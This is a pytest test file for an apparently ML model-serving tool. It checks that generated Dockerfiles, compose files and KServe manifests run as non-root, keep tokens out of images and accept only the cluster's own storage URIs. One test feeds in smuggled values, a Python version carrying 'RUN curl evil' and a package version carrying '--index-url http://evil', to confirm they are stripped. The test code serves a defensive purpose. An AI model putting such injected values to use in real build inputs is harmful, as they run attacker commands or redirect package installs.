"""What is written for containers and for KServe."""

from __future__ import annotations

import json
import re
import shlex
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from modelyard.core.deployment import DeploymentSpec, Limits, Share
from modelyard.serving.export import Part, Plan, container_files, container_tars, kserve_files
from modelyard.serving.export.plan import requirements

if TYPE_CHECKING:
    from pathlib import Path

STABLE = Part(
    model="risk/fraud", number=7, commit="a" * 40, percent=90.0, framework="sklearn",
    python="3.11.7", packages={"scikit-learn": "1.9.1", "numpy": "2.4.6", "pytest": "9.0"},
)  # fmt: skip
CANARY = Part(
    model="risk/fraud", number=9, commit="b" * 40, percent=10.0, framework="sklearn",
    python="3.12.1", packages={"scikit-learn": "1.9.2"},
)  # fmt: skip


def plan(*parts: Part, **options: Any) -> Plan:
    shares = tuple(
        Share(model=part.model, revision=str(part.number), percent=part.percent) for part in parts
    )
    return Plan("fraud.eu", DeploymentSpec(name="fraud.eu", shares=shares, **options), parts)


ALONE = plan(Part(**{f: getattr(STABLE, f) for f in STABLE.__slots__} | {"percent": 100.0}))
BOTH = plan(STABLE, CANARY)


class TestContainer:
    def test_only_what_the_framework_needs_is_installed_as_it_was(self) -> None:
        assert requirements(ALONE) == [
            "modelyard[serving,sklearn]", "numpy==2.4.6", "scikit-learn==1.9.1",
        ]  # fmt: skip

    def test_what_is_no_version_is_not_handed_to_pip(self) -> None:
        odd = Part(
            model="a/b", number=1, commit="c" * 40, percent=100.0, framework="sklearn",
            python="3.11\nRUN curl evil", packages={"numpy": "1 --index-url http://evil"},
        )  # fmt: skip
        assert requirements(plan(odd)) == ["modelyard[serving,sklearn]"]
        assert "evil" not in container_files(plan(odd))["Dockerfile"]

    def test_the_python_is_the_one_that_the_stable_version_was_made_with(self) -> None:
        assert "FROM python:3.11-slim-bookworm" in container_files(BOTH)["Dockerfile"]

    def test_versions_are_numbered_in_their_order_in_the_container(self) -> None:
        entrypoint = _entrypoint(BOTH)
        assert entrypoint[:6] == [
            "yard", "--yard", "/yard", "serve", "risk/fraud@1", "risk/fraud@2",
        ]  # fmt: skip
        assert entrypoint[entrypoint.index("--as") + 1] == "fraud.eu"
        assert container_tars(BOTH) == ["versions/1.tar", "versions/2.tar"]

    def test_what_is_trusted_and_limited_goes_along(self) -> None:
        more = plan(*ALONE.parts, trusted=("mine.Model",), limits=Limits(threads=4), replicas=3)
        entrypoint = _entrypoint(more)
        for option, value in (("--trust", "mine.Model"), ("--threads", "4"), ("--replicas", "3")):
            assert entrypoint[entrypoint.index(option) + 1] == value

    def test_nobody_is_root_and_nothing_asks_without_a_token(self) -> None:
        dockerfile = container_files(ALONE)["Dockerfile"]
        assert re.search(r"^USER 10001", dockerfile, re.MULTILINE)
        assert "--token-file" in _entrypoint(ALONE)
        assert "--open" not in dockerfile

    def test_compose_is_closed_and_holds_no_secret(self) -> None:
        compose = yaml.safe_load(container_files(ALONE)["compose.yaml"])
        (service,) = compose["services"].values()
        assert service["cap_drop"] == ["ALL"]
        assert all(port.startswith("127.0.0.1:") for port in service["ports"])
        assert compose["secrets"] == {"token": {"file": "./token"}}

    def test_the_token_never_gets_into_the_image(self) -> None:
        ignored = container_files(ALONE)[".dockerignore"].splitlines()
        assert ignored[0] == "*"
        assert "!token" not in ignored


class TestKServe:
    files = kserve_files(BOTH, server="https://models.example.org", image="modelyard:1")

    def test_a_service_names_the_version_by_number(self) -> None:
        service = self._read("2-service.yaml")
        environment = service["spec"]["predictor"]["model"]["env"]
        assert {each["name"]: each["value"] for each in environment} == {
            "YARD_VERSION": "risk/fraud@7", "YARD_NAME": "fraud.eu",
        }  # fmt: skip
        assert service["metadata"]["name"] == "fraud-eu"
        assert service["metadata"]["annotations"]["modelyard.dev/commit"] == "a" * 40

    def test_the_canary_is_the_same_service_with_a_share(self) -> None:
        stable, canary = self._read("2-service.yaml"), self._read("3-canary.yaml")
        assert canary["metadata"]["name"] == stable["metadata"]["name"]
        assert canary["spec"]["predictor"]["canaryTrafficPercent"] == 10
        assert "canaryTrafficPercent" not in stable["spec"]["predictor"]

    def test_without_a_canary_there_is_no_file_for_it(self) -> None:
        files = kserve_files(ALONE, server="https://models.example.org", image="modelyard:1")
        assert "3-canary.yaml" not in files

    def test_the_runtime_is_found_by_the_format_and_probed_on_paths_of_the_protocol(self) -> None:
        runtime, service = self._read("1-runtime.yaml"), self._read("2-service.yaml")
        wanted = service["spec"]["predictor"]["model"]
        (offered,) = runtime["spec"]["supportedModelFormats"]
        assert (wanted["runtime"], wanted["modelFormat"]["name"]) == ("modelyard", offered["name"])
        (container,) = runtime["spec"]["containers"]
        assert container["name"] == "kserve-container"
        assert container["readinessProbe"]["httpGet"]["path"] == "/v2/health/ready"
        assert container["livenessProbe"]["httpGet"]["path"] == "/v2/health/live"

    def test_secrets_are_named_and_not_written(self) -> None:
        runtime = self._read("1-runtime.yaml")
        (container,) = runtime["spec"]["containers"]
        values = {each["name"]: each for each in container["env"]}
        reference = {"name": "modelyard", "key": "yard-token"}
        assert values["YARD_TOKEN"]["valueFrom"] == {"secretKeyRef": reference}
        assert container["args"][container["args"].index("--token-file") + 1].startswith("/")

    def test_storage_takes_our_uris_and_nothing_else(self) -> None:
        storage = self._read("storage.yaml")
        assert storage["spec"]["supportedUriFormats"] == [{"prefix": "yard://"}]
        assert storage["spec"]["container"]["name"] == "storage-initializer"
        service = self._read("files-service.yaml")
        model = service["spec"]["predictor"]["model"]
        assert model["storageUri"] == "yard://models.example.org/risk/fraud@7"
        assert model["modelFormat"]["name"] == "sklearn"

    def test_every_file_has_one_object_of_kserve(self) -> None:
        kinds = {name: yaml.safe_load(text) for name, text in self.files.items()}
        assert all(each["apiVersion"].startswith("serving.kserve.io/") for each in kinds.values())
        assert all(len(text) < 5000 for text in self.files.values())

    def _read(self, name: str) -> Any:
        return yaml.safe_load(self.files[name])


class TestStorageInitializer:
    def test_a_uri_names_a_version_of_the_cluster_s_own_server(self) -> None:
        from modelyard.cli.storage_initializer import parse

        target = parse("yard://models.example.org:8443/risk/fraud@7",
                       "https://models.example.org:8443")  # fmt: skip
        assert (target.model.text, str(target.revision)) == ("risk/fraud", "7")

    @pytest.mark.parametrize("server", ["https://h:8443/yard", "https://h:8443/yard/"])
    def test_a_server_below_a_path_is_named_with_it(self, server: str) -> None:
        from modelyard.cli.storage_initializer import parse
        from modelyard.errors import ModelyardError

        target = parse("yard://h:8443/yard/own/net@3", server)
        assert (target.model.text, str(target.revision)) == ("own/net", "3")
        assert parse("yard://h:8443/yard/net@3", server).model.text == "net"
        for uri, kind in (
            ("yard://h:8443/own/net@3", "other-yard"), ("yard://h:8443/yardage/net", "other-yard"),
            ("yard://h:8443/yard", "other-yard"), ("yard://h:8443/yard/", "bad-uri"),
        ):  # fmt: skip
            with pytest.raises(ModelyardError) as caught:
                parse(uri, server)
            assert caught.value.kind == kind

    @pytest.mark.parametrize(
        ("uri", "kind"),
        [
            ("yard://elsewhere.example.org/risk/fraud@7", "other-yard"),
            ("yard://models.example.org@elsewhere.org/risk/fraud", "other-yard"),
            ("yard://models.example.org:80/risk/fraud@7", "other-yard"),
            ("https://models.example.org/risk/fraud@7", "bad-uri"),
            ("yard://models.example.org", "bad-uri"),
            ("yard://models.example.org/a?b=c", "bad-uri"),
            ("yard:///risk/fraud", "bad-uri"),
        ],
    )
    def test_the_token_is_sent_nowhere_else(self, uri: str, kind: str) -> None:
        from modelyard.cli.storage_initializer import parse
        from modelyard.errors import ModelyardError

        with pytest.raises(ModelyardError) as caught:
            parse(uri, "https://models.example.org")
        assert caught.value.kind == kind

    def test_what_goes_wrong_is_one_line(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        from modelyard.cli.storage_initializer import main

        monkeypatch.setenv("YARD", "http://127.0.0.1:9")
        assert main(["yard://127.0.0.1:9/risk/fraud@7", str(tmp_path / "models")]) == 1
        assert capsys.readouterr().err.count("\n") == 1
        assert main(["one"]) == 2


def _entrypoint(of: Plan) -> list[str]:
    dockerfile = container_files(of)["Dockerfile"]
    line = next(each for each in dockerfile.splitlines() if each.startswith("ENTRYPOINT "))
    words: list[str] = json.loads(line.removeprefix("ENTRYPOINT "))
    assert shlex.join(words)
    return words
